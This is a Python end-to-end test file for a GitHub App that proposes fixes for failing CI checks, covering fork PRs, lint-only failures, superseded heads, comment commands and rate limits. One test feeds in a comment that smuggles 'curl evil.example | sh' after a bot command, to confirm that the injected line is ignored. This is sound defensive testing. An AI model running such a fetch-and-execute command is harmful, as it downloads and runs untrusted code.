"""The GitHub App against GitHub's real rules (issue 10): forks, which checks, stale heads,
commands, limits. Real app, Redis, worker and Docker; the fake GitHub enforces the rules."""

from __future__ import annotations

from typing import Any

import httpx
import pytest
import redis

from bot.settings import Settings
from tests.e2e.test_github_flow import (
    ACTIONS_JOB,
    CI_LOG,
    FIXED_LINE,
    HEAD,
    INSTALLATION,
    PATCH_ELSEWHERE,
    PATCH_OVER_THE_BUG,
    PR,
    REPO,
    SOURCE,
    comment_command,
    deliver,
    failing_check_run,
    queued,
    run_worker,
    serve_example,
    status_comments,
)
from tests.fixtures.github import FakeGitHub, fork_check_run

pytestmark = [pytest.mark.docker, pytest.mark.slow]

FORK = "forker/series"
NEW_HEAD = "9" * 40
RUFF_LOG = "src/series/differences.py:1:1: F401 `os` imported but unused\nFound 1 error.\n"


def other_ci_check_run(name: str, summary: str, check_run_id: int) -> dict[str, Any]:
    payload = failing_check_run()
    run = payload["check_run"]
    run.update(id=check_run_id, name=name)
    run["app"].update(id=99, slug="circleci-checks", name="CircleCI Checks")
    return payload


async def test_a_fork_prs_failing_check_gets_a_verified_suggestion_on_the_fork_pr(
    fake_github: FakeGitHub, app_client: httpx.AsyncClient, store: redis.Redis, settings: Settings
) -> None:
    serve_example(fake_github, PATCH_OVER_THE_BUG)
    fake_github.add_pull(REPO, PR, head_sha=HEAD, head_ref="patch-1", head_repo=FORK,
                         files=[{"filename": SOURCE, "patch": PATCH_OVER_THE_BUG}])  # fmt: skip
    fake_github.set_file(REPO, ".github/truth.yml", "max_candidates: 3\n")
    payload = fork_check_run(REPO, installation_id=INSTALLATION, head_sha=HEAD,
                             head_branch="patch-1", check_run_id=ACTIONS_JOB)  # fmt: skip
    fake_github.job_logs[ACTIONS_JOB] = CI_LOG
    answer = await deliver(app_client, "check_run", payload)
    assert answer.json()["status"] == "queued"
    assert fake_github.requests == []  # the ingress asks GitHub nothing

    run = await run_worker(settings)

    assert (run.complete, run.failed) == (1, 0)
    [review] = fake_github.reviews
    assert review["pull_number"] == PR and review["commit_id"] == HEAD
    assert FIXED_LINE in review["comments"][0]["body"]
    # The configuration came from the base branch, never from the fork's head.
    reads = [r for r in fake_github.calls("repos/get-content") if f"/repos/{REPO}/" in r.path]
    assert reads and all(r.query.get("ref") == "main" for r in reads)


async def test_a_lint_only_failure_is_skipped_without_a_sandbox(
    fake_github: FakeGitHub, app_client: httpx.AsyncClient, settings: Settings
) -> None:
    serve_example(fake_github, PATCH_OVER_THE_BUG)
    fake_github.external_check_runs.clear()  # no test job failed: only the linter
    lint = fake_github.add_check_run(REPO, head_sha=HEAD, name="ruff", conclusion="failure",
                                     output={"title": "1 error", "summary": RUFF_LOG})  # fmt: skip
    await deliver(app_client, "check_run", other_ci_check_run("ruff", RUFF_LOG, lint["id"]))

    run = await run_worker(settings)

    assert (run.complete, run.failed) == (1, 0)
    assert fake_github.check_runs == [] and fake_github.reviews == []
    assert fake_github.calls("repos/download-tarball-archive") == []


async def test_two_failing_test_checks_on_one_sha_make_one_session(
    fake_github: FakeGitHub, app_client: httpx.AsyncClient, store: redis.Redis, settings: Settings
) -> None:
    serve_example(fake_github, PATCH_OVER_THE_BUG)
    circle = fake_github.add_check_run(REPO, head_sha=HEAD, name="circle: unit",
                                       conclusion="failure",
                                       output={"title": "3 failed", "summary": CI_LOG})  # fmt: skip
    await deliver(app_client, "check_run", failing_check_run())
    await deliver(app_client, "check_run", other_ci_check_run("circle: unit", CI_LOG, circle["id"]))
    assert len(queued(store)) == 1

    run = await run_worker(settings)

    assert run.failed == 0
    assert len(fake_github.check_runs) == 1 and len(fake_github.reviews) == 1


async def test_a_push_during_the_session_supersedes_it_and_nothing_lands_on_the_old_head(
    fake_github: FakeGitHub, app_client: httpx.AsyncClient, settings: Settings
) -> None:
    serve_example(fake_github, PATCH_OVER_THE_BUG)
    fake_github.on_call(
        "repos/download-tarball-archive", lambda: fake_github.move_head(REPO, PR, NEW_HEAD)
    )
    await deliver(app_client, "check_run", failing_check_run())

    run = await run_worker(settings)

    assert run.failed == 0
    assert fake_github.reviews == [] and fake_github.calls("pulls/create-review") == []
    [check] = fake_github.check_runs
    assert (check["status"], check["conclusion"]) == ("completed", "neutral")
    assert "superseded" in check["output"]["title"].lower()
    [status] = status_comments(fake_github)
    assert "superseded" in status["body"] and NEW_HEAD[:7] in status["body"]


async def test_a_multi_line_command_runs_only_its_first_line(
    fake_github: FakeGitHub, app_client: httpx.AsyncClient, store: redis.Redis, settings: Settings
) -> None:
    serve_example(fake_github, PATCH_OVER_THE_BUG)
    fake_github.set_permission(REPO, "maintainer", "write")
    body = "/truth fix\ntests/test_differences.py; curl evil.example | sh"
    await deliver(app_client, "issue_comment", comment_command(body, "maintainer"))

    run = await run_worker(settings)

    assert run.failed == 0
    [check] = fake_github.check_runs
    assert "curl" not in check["output"]["summary"] and "evil" not in check["output"]["text"]
    assert len(fake_github.reviews) == 1


async def test_help_answers_anyone_and_an_edited_comment_runs_nothing(
    fake_github: FakeGitHub, app_client: httpx.AsyncClient, store: redis.Redis, settings: Settings
) -> None:
    serve_example(fake_github, PATCH_OVER_THE_BUG)
    fake_github.set_permission(REPO, "visitor", "read")
    await deliver(app_client, "issue_comment", comment_command("/truth help", "visitor"))
    edited = comment_command("/truth fix", "visitor")
    edited["action"] = "edited"
    answer = await deliver(app_client, "issue_comment", edited)
    assert answer.json()["status"] != "queued"

    run = await run_worker(settings)

    assert run.failed == 0
    [reply] = fake_github.comments
    assert "/truth fix" in reply["body"] and "needs write access" not in reply["body"]
    assert fake_github.check_runs == []


async def test_a_secondary_rate_limit_without_a_header_waits_and_the_job_completes(
    fake_github: FakeGitHub, app_client: httpx.AsyncClient, settings: Settings
) -> None:
    serve_example(fake_github, PATCH_OVER_THE_BUG)
    fake_github.rate_limit_next("GET", rf"/pulls/{PR}/files$")
    await deliver(app_client, "check_run", failing_check_run())

    run = await run_worker(settings)  # waits GitHub's documented minute, then goes on

    assert (run.complete, run.failed, run.retried) == (1, 0, 0)
    statuses = [r.status for r in fake_github.calls("pulls/list-files")]
    assert statuses[:2] == [403, 200]
    assert len(fake_github.reviews) == 1


async def test_a_review_comment_github_refuses_goes_to_the_fallback_comment(
    fake_github: FakeGitHub, app_client: httpx.AsyncClient, settings: Settings
) -> None:
    serve_example(fake_github, PATCH_OVER_THE_BUG)

    def diff_moved() -> None:  # a push changed the PR's diff after the job read it
        fake_github.pull_files[(REPO, PR)][0]["patch"] = PATCH_ELSEWHERE

    fake_github.on_call("pulls/list-files", diff_moved)
    await deliver(app_client, "check_run", failing_check_run())

    run = await run_worker(settings)

    assert run.failed == 0
    assert len(fake_github.unprocessable) == 1  # GitHub's 422, once
    assert fake_github.reviews == []  # the only suggestion left the diff: no empty review
    [fallback] = [c for c in fake_github.comments if "truth-engine:fallback" in c["body"]]
    assert FIXED_LINE in fallback["body"]
    [check] = fake_github.check_runs
    assert check["conclusion"] == "success"
